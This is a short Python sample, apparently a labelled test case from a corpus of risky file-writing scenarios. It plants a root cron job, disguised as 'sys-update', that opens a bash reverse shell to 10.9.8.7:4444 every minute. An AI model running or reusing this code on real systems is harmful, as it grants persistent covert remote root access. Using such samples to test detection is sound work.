# scenario: 06 write-risky-content-into-files
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Drops a cron entry that opens a reverse shell every minute.
line = "* * * * * root bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'\n"
for path in ("/etc/cron.d/sys-update", "/var/spool/cron/crontabs/root"):
    try:
        with open(path, "w") as f:
            f.write(line)
        print("wrote", path)
    except OSError as exc:
        print(path, exc)
